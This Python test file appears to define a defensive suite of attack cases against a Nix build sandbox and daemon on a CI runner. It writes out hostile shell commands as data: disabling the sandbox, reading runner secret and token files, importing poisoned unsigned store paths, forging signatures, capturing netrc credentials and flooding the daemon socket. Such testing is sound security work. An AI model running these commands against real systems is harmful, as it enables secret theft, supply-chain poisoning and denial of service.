"""The attacks: what a job that is root in its container tries. All of them; the table in docs/security.md has the results."""

from __future__ import annotations

import os
from typing import Final

from tests.attacks.case import Case, Outcome
from tests.attacks.shell import (
    ANNOUNCE,
    BY_ROOT,
    CACHE,
    CONNECT,
    ENDED,
    EXPORT,
    MANY_BUILDERS,
    MEET,
    MEMORY_WATCH,
    MOUNT,
    POISON,
    REMOUNT,
    REPLACE,
    SETUID,
    SMUGGLE,
    THROUGH_A_LINK_BY_BYTES,
    TOOLS,
    hook,
    through_a_link,
    unrooted,
)

PROCESSORS: Final = os.cpu_count() or 1
# Of a machine of the lab: no more builders than these run at once, whatever a job asks for.
BUILD_USERS: Final = 8

PRIVILEGED: Final = (
    Case(
        "sandbox-off",
        TOOLS + 'derivation off "show /etc/attack-mark"\nnix-build --option sandbox false --no-out-link off.nix',
        marker="open-mark",
    ),
    Case(
        "noChroot-relaxed",
        TOOLS
        + 'derivation relaxed "show /etc/attack-mark" "__noChroot = true;"\n'
        + "nix-build --option sandbox relaxed --no-out-link relaxed.nix",
        marker="open-mark",
    ),
    Case(
        "root-build",
        TOOLS
        + 'derivation root "show /root/attack-mark"\n'
        + "nix-build --option build-users-group '' --option sandbox false --no-out-link root.nix",
        marker="root-mark",
    ),
    Case(
        "root-build-token",
        TOOLS
        + 'derivation token "show /var/lib/nixprov/secrets/default.token > /dev/null && echo token-read"\n'
        + "nix-build --option build-users-group '' --option sandbox false --no-out-link token.nix",
        marker="token-read",
    ),
    Case(
        "extra-sandbox-paths",
        TOOLS
        + 'derivation extra "show /host/attack-mark"\n'
        + "nix-build --option extra-sandbox-paths /host=/etc --no-out-link extra.nix",
        marker="open-mark",
    ),
    Case(
        "sandbox-paths-of-root",
        TOOLS
        + 'derivation all "show /host/etc/attack-mark"\n'
        + "nix-build --option sandbox-paths '/host=/ /bin/sh=/bin/bash /usr=/usr /lib64=/lib64 /lib=/lib' --no-out-link all.nix",
        marker="open-mark",
    ),
    Case(
        "post-build-hook",
        hook("post-build-hook")
        + 'derivation post ":"\nnix-build --option post-build-hook "$hook" --no-out-link post.nix',
        seen=BY_ROOT.replace("@NAME@", "post-build-hook"),
    ),
    Case(
        "pre-build-hook",
        hook("pre-build-hook") + 'derivation pre ":"\nnix-build --option pre-build-hook "$hook" --no-out-link pre.nix',
        seen=BY_ROOT.replace("@NAME@", "pre-build-hook"),
    ),
    Case(
        "build-hook",
        hook("build-hook")
        + 'derivation hook ":"\n'
        + 'timeout 10 nix-build --option build-hook "$hook" --option builders "ssh://nowhere $(nix-instantiate --eval -E builtins.currentSystem | tr -d \\")" --no-out-link hook.nix',
        seen=BY_ROOT.replace("@NAME@", "build-hook"),
    ),
    Case(
        "diff-hook",
        hook("diff-hook")
        + 'derivation diff "show /proc/sys/kernel/random/uuid > \\$out; exit 0"\n'
        + 'nix-build --no-out-link diff.nix\nnix-build --check --option run-diff-hook true --option diff-hook "$hook" --no-out-link diff.nix',
        seen="[ -e /var/tmp/attack-diff-hook-$stamp ]",
    ),
    Case(
        "import-unsigned",
        TOOLS + (POISON + EXPORT).replace("@NAME@", "import") + "nix-store --import < export && cat $victim",
        marker="echo pwned",
    ),
    Case(
        "copy-unsigned",
        TOOLS
        + (POISON + CACHE).replace("@NAME@", "copy")
        + 'nix copy --no-check-sigs --from "file://$PWD/cache" "$victim" && cat $victim',
        marker="echo pwned",
    ),
    Case(
        "own-substituter",
        TOOLS
        + (POISON + CACHE).replace("@NAME@", "substituter")
        + '(cd cache && exec "$python/bin/python3" -m http.server 9873 > /dev/null 2>&1) &\n'
        + "until curl --silent http://127.0.0.1:9873 > /dev/null; do sleep 0.1; done\naddress=$(sed -n 's/^\\([0-9.]*\\)[[:space:]].*'\"$(hostname)\"'.*/\\1/p' /etc/hosts | head -n 1)\n"
        + 'timeout 20 nix-store --realise --option substituters "http://$address:9873" "$victim" && cat $victim\nkill %1',
        marker="echo pwned",
        plain=Outcome.CLOSED,
        tried="ignoring (untrusted substituter|substitute for .* not signed)",
    ),
    *(
        Case(
            f"copy-through-link-{name}",
            through_a_link(f"{folder}/attack-link-$stamp"),
            seen=f"grep -q pwned-$stamp {folder}/attack-link-$stamp",
            tried=r"attack-link-\w+$",
        )
        for name, folder in (
            ("gcroots", "/nix/var/nix/gcroots"),
            ("profiles", "/nix/var/nix/profiles"),
            ("run", "/run"),
            ("dev", "/dev/shm"),
            ("var-tmp", "/var/tmp"),
            ("home", "/root"),
        )
    ),
    Case(
        "copy-through-link-by-bytes",
        TOOLS + THROUGH_A_LINK_BY_BYTES.replace("@TARGET@", "/run/attack-bytes-$stamp"),
        seen="grep -q pwned-$stamp /run/attack-bytes-$stamp",
        tried=r"attack-bytes-\w+$",
    ),
    Case(
        "copy-through-link-store",
        through_a_link("$victim"),
        prepare=unrooted("linked") + "ln -sfn $(nix-store --add /tmp/unrooted-linked) /nix/var/nix/gcroots/attack-8",
        seen='grep -q "pwned-$stamp" "$victim"',
        tried=r"-unrooted-linked$",
        inherent="CVE-2026-39860: this Nix copies a download through a link, and the store must be writable",
    ),
    Case(
        "recursive-nix",
        TOOLS
        + "nix=$(store_path nix-store)\n"
        + 'derivation inside "$(in_store $nix)/bin/nix-store --query --hash $(in_store $nix) > /dev/null && echo daemon-inside" '
        + '"requiredSystemFeatures = [ \\"recursive-nix\\" ];"\n'
        + "nix-build --no-out-link inside.nix",
        marker="daemon-inside",
    ),
    Case(
        "token-in-values",
        'case "$ATTACK_VALUE" in *@TOKEN@*@IMAGE@*) echo value-is-literal ;; *glrt-*) echo token-in-value ;; esac',
        marker="token-in-value",
        plain=Outcome.CLOSED,
        tried=r"^(\S+Z \w+ )?(value-is-literal|token-in-value)$",
    ),
    Case(
        "setuid-in-container",
        TOOLS + SETUID,
        marker="rights-gained",
    ),
    Case(
        "device-node",
        "mknod /tmp/disk b 7 0 && echo node-made",
        marker="node-made",
    ),
    Case(
        "mount-in-container",
        TOOLS + MOUNT,
        marker="has-mounted",
        plain=Outcome.CLOSED,
        tried="mount: (Operation not permitted|done)",
    ),
)

STORE: Final = (
    Case(
        "delete-unrooted",
        'nix-store --delete "$victim"',
        prepare=unrooted("delete"),
        seen='! [ -e "$victim" ]',
    ),
    Case(
        "delete-rooted",
        'nix-store --delete --ignore-liveness "$victim"',
        prepare=unrooted("rooted") + "ln -sfn $(nix-store --add /tmp/unrooted-rooted) /nix/var/nix/gcroots/attack",
        seen='! [ -e "$victim" ]',
        plain=Outcome.CLOSED,
        tried="not allowed to ignore liveness|CollectGarbage is refused",
    ),
    Case(
        "replace-source",
        TOOLS + REPLACE,
        prepare=unrooted("replaced")
        + "ln -sfn $(nix-store --add /tmp/unrooted-replaced) /nix/var/nix/gcroots/attack-6",
        seen='[ "$(cat "$victim")" = pwned ]',
    ),
    Case(
        "add-signature",
        'nix key generate-secret --key-name attacker > key\nnix store sign --key-file key "$victim"',
        prepare=unrooted("signed") + "ln -sfn $(nix-store --add /tmp/unrooted-signed) /nix/var/nix/gcroots/attack-2",
        seen='nix --extra-experimental-features nix-command path-info --sigs "$victim" | grep -q attacker',
    ),
    Case(
        "indirect-root-flood",
        'for n in $(seq 60); do nix-store --realise "$victim" --add-root "$PWD/root-$n" > /dev/null; done',
        prepare=unrooted("flood") + "ln -sfn $(nix-store --add /tmp/unrooted-flood) /nix/var/nix/gcroots/attack-3",
        seen="[ $(find /nix/var/nix/gcroots/auto -lname '*/root-[0-9]*' | wc -l) -gt 50 ]",
    ),
    Case(
        "keep-failed",
        TOOLS + 'derivation kept "exit 1"\nnix-build --keep-failed --no-out-link kept.nix',
        seen="ls -d /nix/var/nix/{,nixprov-}builds/*kept-$stamp* /tmp/*kept-$stamp* 2>/dev/null | grep -q .",
    ),
    Case(
        "log-left",
        TOOLS + 'derivation verbose "echo much"\nnix-build --no-out-link verbose.nix',
        seen='find /nix/var/log/nix /var/log/nix -name "*-verbose-$stamp.drv*" 2>/dev/null | grep -q .',
    ),
    Case(
        "symlink-output",
        TOOLS + 'derivation link "ln() { :; }; $(in_store $coreutils)/bin/ln -s /root/attack-mark \\$out; exit 0"\n'
        "out=$(nix-build --no-out-link link.nix)\ncat $out\n"
        'derivation through "show $(in_store $out)"\nnix-build --no-out-link through.nix',
        marker="root-mark",
        plain=Outcome.CLOSED,
        tried="can't open /nix/store/.*-link-",
    ),
    Case(
        "database-write",
        "touch /nix/var/nix/db/attack-$stamp; echo x >> /nix/var/nix/db/schema",
        seen="[ -e /nix/var/nix/db/attack-$stamp ]",
        plain=Outcome.CLOSED,
        tried="cannot touch '/nix/var/nix/db/attack-",
    ),
    Case(
        "store-remount",
        TOOLS + REMOUNT + "touch /nix/store/attack-$stamp",
        seen="[ -e /nix/store/attack-$stamp ]",
        plain=Outcome.CLOSED,
        tried="remounted: Operation not permitted",
    ),
    Case(
        "runner-files",
        "cat /var/lib/nixprov/secrets/* /var/lib/nixprov-runner/*/config.toml /root/attack-mark && echo runner-files-read",
        marker="runner-files-read",
        plain=Outcome.CLOSED,
        tried="/var/lib/nixprov/secrets/.*No such file",
    ),
    Case(
        "engine-socket",
        "find / -path /proc -prune -o -path /nix/store -prune -o -type s -printf 'found %p\\n' | tee sockets\n"
        'grep -E "podman|docker" sockets && echo engine-found',
        marker="engine-found",
        plain=Outcome.CLOSED,
        tried="^.*found /nix/var/nix/daemon-socket/socket$",
    ),
    Case(
        "other-log",
        'nix log --option substituters "" "$victim" || nix-store --option substituters "" --read-log "$victim"\ncat /nix/var/log/nix/drvs/*/* /var/log/nix/drvs/*/*',
        prepare=r"""
echo "derivation { name = \"logged-$stamp\"; system = builtins.currentSystem; builder = \"/bin/sh\";
  args = [ \"-c\" \"echo other-log-$stamp; echo > \$out\" ]; }" > /tmp/logged.nix
echo "victim=$(readlink -f "$(nix-instantiate --add-root /nix/var/nix/gcroots/attack-4 /tmp/logged.nix)")"
nix-build --no-out-link /tmp/logged.nix > /dev/null
""",
        marker="other-log",
        plain=Outcome.CLOSED,
        tried="build log of .*logged.* is not available",
    ),
    Case(
        "store-read",
        'cat "$victim"',
        prepare='echo "store-secret-$stamp" > /tmp/secret; echo "victim=$(nix-store --add /tmp/secret)"; '
        "ln -sfn $(nix-store --add /tmp/secret) /nix/var/nix/gcroots/attack-5",
        marker="store-secret",
        inherent="the store is shared and world-readable: no secrets in it",
    ),
    *(
        Case(f"smuggle-{way}", f"way={way}\n" + TOOLS + SMUGGLE, marker="smuggled")
        for way in ("method", "add-frame", "many-frame", "nar-frame")
    ),
    Case(
        "smuggle-repair",
        "way=add-frame\n" + TOOLS + SMUGGLE,
        prepare=unrooted("smuggled")
        + "ln -sfn $(nix-store --add /tmp/unrooted-smuggled) /nix/var/nix/gcroots/attack-7",
        seen='[ "$(cat "$victim")" = pwned ]',
    ),
    Case(
        "owners-signature",
        TOOLS + 'derivation mine ":"\npath=$(nix-build --no-out-link mine.nix)\n'
        'nix --extra-experimental-features nix-command path-info --sigs "$path" | grep -q " owner:" && echo signed-by-the-owner',
        marker="signed-by-the-owner",
    ),
)

NETWORK: Final = (
    Case(
        "fixed-output-loopback",
        TOOLS + CONNECT + 'connect loop \'socket.create_connection(("127.0.0.1", 9871), 5)\' "$fixed"',
        marker="loopback-answer",
    ),
    Case(
        "fixed-output-abstract-socket",
        TOOLS
        + CONNECT
        + 'connect abstract \'(lambda s: (s.connect("\\0nixprov-attack"), s)[1])(socket.socket(socket.AF_UNIX))\' "$fixed"',
        marker="loopback-answer",
    ),
    Case(
        "build-loopback",
        TOOLS + CONNECT + "connect ordinary 'socket.create_connection((\"127.0.0.1\", 9871), 5)'",
        marker="loopback-answer",
        plain=Outcome.CLOSED,
        tried="ConnectionRefusedError",
    ),
    Case(
        "netrc",
        TOOLS
        + 'derivation netrc "" "$fixed"\n'
        + 'sed -i \'s,builder = .*,builder = "builtin:fetchurl"; url = "http://'
        + "'\"$address\"'"
        + ':9872/x"; urls = []; unpack = ""; executable = "";,; s,system = .*,system = "builtin";,\' netrc.nix\n'
        + "timeout 20 nix-build --no-out-link netrc.nix",
        seen="grep -q '^Authorization: Basic' /var/tmp/attack-headers-$stamp",
    ),
    Case(
        "impure-environment",
        TOOLS
        + 'derivation impure "echo \\$NIXPROV_ATTACK" "$fixed impureEnvVars = [ \\"NIXPROV_ATTACK\\" ];"\n'
        + "nix-build --no-out-link impure.nix",
        marker="environment",
    ),
    Case(
        "impure-env-setting",
        TOOLS
        + 'derivation lent "echo \\$NIXPROV_LENT" "$fixed impureEnvVars = [ \\"NIXPROV_LENT\\" ];"\n'
        + "nix-build --no-out-link lent.nix",
        marker="lent",
    ),
    *(
        Case(
            f"builds-meet-{name}",
            TOOLS + MEET + f"meet {name} {family} '{address}'",
            marker="met-another-build",
            tried="^.* listening$",
        )
        for name, family, address in (
            ("loopback", "AF_INET", '("127.0.0.1", 9874)'),
            ("abstract-socket", "AF_UNIX", '"\\0nixprov-meet"'),
        )
    ),
    Case(
        "raw-socket",
        TOOLS
        + """"$python/bin/python3" -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' && echo raw-socket-made""",
        marker="raw-socket-made",
    ),
)

LOAD: Final = (
    Case(
        "more-builders",
        TOOLS + MANY_BUILDERS,
        marker="too-many-at-once",
        plain=Outcome.OPEN if PROCESSORS < BUILD_USERS else Outcome.CLOSED,
        tried="at most [0-9]+ of [0-9]+ at once",
        disturbs=True,
    ),
    Case(
        "connection-flood",
        TOOLS
        + r""""$python/bin/python3" - <<'PY'
import socket, struct
held = []
for _ in range(150):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(10)
    try:
        s.connect("/nix/var/nix/daemon-socket/socket")
        s.sendall(struct.pack("<Q", 0x6E697863))
        if s.recv(8):
            held.append(s)
    except OSError:
        break
print("connections", len(held))
if len(held) == 150:
    print("flooded")
PY
""",
        marker="flooded",
        disturbs=True,
    ),
    Case("connection-flood-of-the-dead", TOOLS + ENDED, marker="flooded", disturbs=True),
    Case(
        "announced-memory",
        TOOLS + ANNOUNCE,
        prepare=MEMORY_WATCH,
        seen='touch /run/attack-memory-stop; [ "$(sort -n /run/attack-memory | tail -n 1)" -gt 400000 ]',
        disturbs=True,
    ),
    Case("optimise", "nix-store --optimise && echo has-optimised", marker="has-optimised", disturbs=True),
    Case("verify", "nix-store --verify && echo has-verified", marker="has-verified", disturbs=True),
    Case(
        "verify-repair",
        "nix-store --verify --repair && echo has-repaired",
        marker="has-repaired",
        disturbs=True,
    ),
    Case(
        "roots-of-others",
        # Not -q: it stops reading, and then nix-store fails, which is what a job's shell goes by (pipefail).
        "nix-store --gc --print-roots | grep -c nixos-system && echo roots-listed",
        marker="roots-listed",
        disturbs=True,
    ),
    Case(
        "collect-garbage",
        "nix-store --gc",
        prepare=unrooted("collect"),
        seen='! [ -e "$victim" ]',
        disturbs=True,
    ),
)

ALL: Final = (*PRIVILEGED, *STORE, *NETWORK, *LOAD)
